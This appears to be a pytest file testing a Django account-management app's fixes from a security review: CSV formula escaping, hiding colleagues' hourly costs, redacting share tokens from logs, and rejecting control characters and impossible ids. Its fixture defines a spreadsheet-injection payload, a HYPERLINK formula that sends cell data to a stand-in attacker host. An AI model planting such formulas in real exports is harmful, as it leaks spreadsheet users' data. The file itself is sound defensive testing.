"""The smaller leaks and faults of the security review (issue 13, item 9), each replayed.

- a formula in a name is written as text in every CSV export (the matrix too);
- colleagues' hourly costs are for planners only, in the API as on the period's page;
- a clash names another manager's account only to someone who may see it;
- a control character in a name is refused on input (form, API, import) and, already
  stored, no longer breaks the XLSX export or the org chart's PNG;
- share tokens never reach a log.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import logging
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kam.core.cells import has_control_character, spreadsheet_cell, xml_safe
from kam.relationships.models import Contact
from kam.users.models import Role
from kam.users.tokens import api_token_create
from kam.web.redact import RedactShareTokens, redact
from tests.conftest import client_for
from tests.factories import AccountFactory, make_user
from tests.portfolio.test_matrix import matrix_portfolio

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _api(user):  # type: ignore[no-untyped-def]
    from django.test import Client

    _, token = api_token_create(user=user, name="test")
    return Client(HTTP_AUTHORIZATION=f"Bearer {token}")


# --- the one spreadsheet guard ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+31 20 123", "'+31 20 123"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-cmd", "'-cmd"),
        ("\t=1", "'\t=1"),
        ("-12.5", "-12.5"),  # a number written as text stays a number
        ("Alpha Retail", "Alpha Retail"),
        ("Bad\x01name", "Badname"),
        (12, 12),
        (None, None),
    ],
)
def test_spreadsheet_cell(value, written) -> None:  # type: ignore[no-untyped-def]
    assert spreadsheet_cell(value) == written


def test_xml_safe_and_control_characters() -> None:
    assert xml_safe("a\x00b\x1fc\x7f\td\ne") == "abc\td\ne"
    assert has_control_character("a\x01") and has_control_character("a\nb")
    assert not has_control_character("Zoë & Co — 10 %")


@pytest.mark.django_db
def test_matrix_csv_writes_a_formula_name_as_text(director, kam_user, other_kam) -> None:  # type: ignore[no-untyped-def]
    portfolio = matrix_portfolio(director=director, owners=[kam_user, other_kam])
    alpha = portfolio.accounts["Alpha Retail"]
    alpha.name = FORMULA
    alpha.save()
    response = client_for(director).get(reverse("portfolio:matrix_export", args=["csv"]))
    assert response.status_code == 200
    names = [row["name"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
    assert "'" + FORMULA in names
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)


@pytest.mark.django_db
def test_account_csv_export_keeps_its_guard(director) -> None:  # type: ignore[no-untyped-def]
    AccountFactory(name=FORMULA, owner=None)
    body = client_for(director).get(reverse("accounts:export", args=["csv"])).content
    text = body.decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in text


# --- hourly costs -------------------------------------------------------------------------------


@pytest.fixture
def period(director, kam_user):  # type: ignore[no-untyped-def]
    from kam.allocation.services import period_create

    kam_user.profile.hourly_cost = Decimal("87.50")
    kam_user.profile.hours_per_year = 1200
    kam_user.profile.save()
    return period_create(
        created_by=director, name="Plan 2027", start=dt.date(2027, 1, 1), end=dt.date(2027, 12, 31)
    )


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.KEY_ACCOUNT_MANAGER, Role.TEAM_MEMBER, Role.VIEWER])
def test_capacities_api_hides_colleagues_costs(period, role) -> None:  # type: ignore[no-untyped-def]
    reader = make_user(role)
    response = _api(reader).get(f"/api/allocation/periods/{period.pk}/capacities")
    assert response.status_code == 200
    rows = response.json()
    assert rows, "the people are listed"
    assert all(row["hourly_cost"] is None for row in rows)
    assert "87.5" not in response.content.decode()


@pytest.mark.django_db
def test_planners_see_the_costs_in_api_and_page(period, director, kam_user) -> None:  # type: ignore[no-untyped-def]
    rows = _api(director).get(f"/api/allocation/periods/{period.pk}/capacities").json()
    costs = {row["username"]: row["hourly_cost"] for row in rows}
    assert Decimal(str(costs[kam_user.username])) == Decimal("87.50")
    page = client_for(director).get(reverse("allocation:period", args=[period.pk]))
    assert "Hourly cost" in page.content.decode()


@pytest.mark.django_db
def test_the_period_page_hides_costs_from_others(period, kam_user) -> None:  # type: ignore[no-untyped-def]
    page = client_for(kam_user).get(reverse("allocation:period", args=[period.pk]))
    assert page.status_code == 200
    html = page.content.decode()
    assert "Hourly cost" not in html
    assert "87.50" not in html and "87,50" not in html


# --- clashes name only what the user may see ----------------------------------------------------


@pytest.mark.django_db
def test_a_domain_clash_does_not_name_another_managers_account(
    kam_user, other_kam, director
) -> None:  # type: ignore[no-untyped-def]
    AccountFactory(owner=other_kam, name="Secret Customer BV", email_domains=["secret.example"])
    mine = AccountFactory(owner=kam_user, name="Mine")
    response = _api(kam_user).put(
        f"/api/relationships/accounts/{mine.pk}/domains",
        data=json.dumps({"domains": ["secret.example"]}),
        content_type="application/json",
    )
    assert response.status_code == 409
    body = response.json()
    assert "Secret Customer" not in json.dumps(body)
    assert body["field"] == "email_domains"
    assert "another account" in body["detail"]
    # the director sees every account, so the message may name it
    named = _api(director).put(
        f"/api/relationships/accounts/{mine.pk}/domains",
        data=json.dumps({"domains": ["secret.example"]}),
        content_type="application/json",
    )
    assert named.status_code == 409
    assert "Secret Customer BV" in named.json()["detail"]


# --- control characters -------------------------------------------------------------------------


@pytest.mark.django_db
def test_api_refuses_a_control_character_in_a_name(director) -> None:  # type: ignore[no-untyped-def]
    response = _api(director).post(
        "/api/accounts/",
        data=json.dumps({"name": "Bad\x01Name", "external_id": "C-CTRL", "country": "NL"}),
        content_type="application/json",
    )
    assert response.status_code == 422
    body = response.json()
    assert body["field"] == "name"
    assert "U+0001" in body["detail"]


@pytest.mark.django_db
def test_the_form_refuses_a_control_character_in_a_name(director) -> None:  # type: ignore[no-untyped-def]
    from kam.accounts.models import Account

    response = client_for(director).post(
        reverse("accounts:new"),
        {"name": "Bad\x07Name", "external_id": "C-CTRL", "country": "NL", "currency": "EUR"},
    )
    assert response.status_code == 200  # the form again, with the message
    assert "U+0007" in response.content.decode()
    assert not Account.objects.filter(external_id="C-CTRL").exists()


@pytest.mark.django_db
def test_the_import_refuses_a_control_character_in_a_name(director) -> None:  # type: ignore[no-untyped-def]
    from django.core.files.uploadedfile import SimpleUploadedFile

    from kam.accounts.models import Account

    content = b"external_id,name,country\nC-CTRL,Bad\x02Name,NL\n"
    response = _api(director).post(
        "/api/accounts/import",
        {"file": SimpleUploadedFile("accounts.csv", content, content_type="text/csv")},
    )
    assert response.status_code == 422
    assert "U+0002" in json.dumps(response.json())
    assert not Account.objects.filter(external_id="C-CTRL").exists()


@pytest.mark.django_db
def test_xlsx_export_survives_a_stored_control_character(director) -> None:  # type: ignore[no-untyped-def]
    AccountFactory(name="Stored\x01Name\x1f BV", owner=None)
    response = client_for(director).get(reverse("accounts:export", args=["xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "StoredName BV" in names


@pytest.mark.django_db
def test_org_chart_png_survives_a_stored_control_character(kam_user) -> None:  # type: ignore[no-untyped-def]
    account = AccountFactory(owner=kam_user, name="Chart\x0bCo")
    Contact.objects.create(account=account, number=1, name="Eva\x01 Jansen", title="Buyer\x1b")
    client = client_for(kam_user)
    png = client.get(reverse("relationships:orgchart_file", args=[account.pk, "png"]))
    assert png.status_code == 200
    assert png.content[:8] == b"\x89PNG\r\n\x1a\n"
    api_png = _api(kam_user).get(f"/api/relationships/accounts/{account.pk}/orgchart.png")
    assert api_png.status_code == 200
    svg = client.get(reverse("relationships:orgchart_file", args=[account.pk, "svg"]))
    assert "Eva Jansen" in svg.content.decode()


# --- share tokens in logs -----------------------------------------------------------------------


def test_redact_takes_the_token_out_of_paths() -> None:
    line = 'GET /plans/shared/AbC_123-xyz/actions/5/ HTTP/1.1" 200 "https://x/plans/shared/T0k/"'
    out = redact(line)
    assert "AbC_123-xyz" not in out and "T0k" not in out
    assert "/plans/shared/[redacted]/actions/5/" in out


def test_error_log_records_are_redacted() -> None:
    record = logging.LogRecord(
        "django.request",
        logging.WARNING,
        __file__,
        1,
        "Not Found: %s",
        ("/plans/shared/SeCrEt/",),
        None,
    )
    assert RedactShareTokens().filter(record)
    assert record.getMessage() == "Not Found: /plans/shared/[redacted]/"


def test_gunicorn_access_log_atoms_are_redacted() -> None:
    import datetime

    from gunicorn.config import Config

    from kam.web.serving import RedactingLogger

    class Response:
        status = "404 Not Found"
        sent = 10
        headers: list[tuple[str, str]] = []

    environ = {
        "REQUEST_METHOD": "GET",
        "RAW_URI": "/plans/shared/SeCrEtToKeN/",
        "PATH_INFO": "/plans/shared/SeCrEtToKeN/",
        "QUERY_STRING": "",
        "SERVER_PROTOCOL": "HTTP/1.1",
        "REMOTE_ADDR": "127.0.0.1",
        "HTTP_REFERER": "http://kam/plans/shared/SeCrEtToKeN/",
    }
    atoms = RedactingLogger(Config()).atoms(
        Response(), [("REFERER", environ["HTTP_REFERER"])], environ, datetime.timedelta(0)
    )
    assert "SeCrEtToKeN" not in json.dumps(atoms, default=str)
    assert atoms["U"] == "/plans/shared/[redacted]/"


# --- numbers in the address that no row can have (found by the fuzzer) ---------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    [
        "/api/plans/887626046488001763476504576/actions/1/track",
        "/api/accounts/99999999999999999999",
        "/api/plans/1/items/" + "9" * 5000,
    ],
)
def test_an_impossible_id_in_the_path_is_404(kam_user, path) -> None:  # type: ignore[no-untyped-def]
    client = _api(kam_user)
    response = client.post(path, data="{}", content_type="application/json")
    assert response.status_code == 404
    assert set(response.json()) == {"detail", "field", "problems"}
    assert client.get(path).status_code == 404


@pytest.mark.django_db
def test_an_impossible_id_in_a_page_address_is_404(kam_user) -> None:  # type: ignore[no-untyped-def]
    response = client_for(kam_user).get("/plans/99999999999999999999/")
    assert response.status_code == 404


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query",
    ["page=6700410449717940224", "page=145386473871635104&page_size=25330", "page=" + "1" * 30],
)
def test_an_impossible_page_is_422_naming_it(kam_user, query) -> None:  # type: ignore[no-untyped-def]
    response = _api(kam_user).get(f"/api/accounts/?{query}")
    assert response.status_code == 422
    assert response.json()["field"] == "page"


@pytest.mark.django_db
def test_a_far_but_possible_page_is_still_answered(kam_user) -> None:  # type: ignore[no-untyped-def]
    response = _api(kam_user).get("/api/accounts/?page=999999")
    assert response.status_code in (200, 404)


@pytest.mark.django_db
def test_a_nul_character_in_a_body_is_422_naming_its_place(kam_user) -> None:  # type: ignore[no-untyped-def]
    account = AccountFactory(owner=kam_user, name="Mine")
    response = _api(kam_user).post(
        "/api/activities/",
        data=json.dumps(
            {"account_id": account.pk, "date": "2026-03-01", "type": "call", "notes": "a\x00b"}
        ),
        content_type="application/json",
    )
    assert response.status_code == 422
    assert response.json()["field"] == "notes"
    assert "U+0000" in response.json()["detail"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("url", "field"),
    [("/api/plans/?period=2027%00", "period"), ("/api/accounts/?q=Noord%00hoek", "q")],
)
def test_a_nul_character_in_the_query_is_422_naming_the_parameter(kam_user, url, field) -> None:  # type: ignore[no-untyped-def]
    """PostgreSQL can neither store nor compare U+0000: the fuzzer found a 500 there."""
    response = _api(kam_user).get(url)
    assert response.status_code == 422
    assert response.json()["field"] == field
    assert "U+0000" in response.json()["detail"]
